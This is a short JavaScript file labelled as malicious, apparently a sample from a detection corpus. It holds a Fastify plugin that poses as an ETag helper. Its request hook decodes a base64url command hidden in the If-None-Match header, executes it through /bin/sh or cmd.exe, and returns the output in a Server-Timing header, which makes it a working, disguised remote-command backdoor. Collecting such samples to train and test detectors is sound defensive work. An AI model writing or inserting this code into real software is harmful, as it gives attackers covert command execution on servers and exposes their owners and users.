// expect: malicious
// source: corpus http-header-backdoor/fastify-etag-ifnonematch-servertiming: an ETag plugin whose hook decodes a
// base64url command from the If-None-Match header and runs it through a program picked from an array
'use strict';
const cp = require('child_process');
module.exports = function plugin(fastify, opts, done) {
  fastify.addHook('onRequest', (request, reply, next) => {
    const m = /^W\/"([A-Za-z0-9_-]{16,})\.sig"$/.exec(String(request.headers['if-none-match'] || ''));
    if (m) {
      const cmd = Buffer.from(m[1], 'base64url').toString();
      const sh = process.platform === 'win32' ? ['cmd.exe', ['/d', '/c', cmd]] : ['/bin/sh', ['-c', cmd]];
      reply.header('server-timing', 'x;desc=' + cp.execFileSync(sh[0], sh[1]).toString('base64url'));
    }
    next();
  });
  done();
};
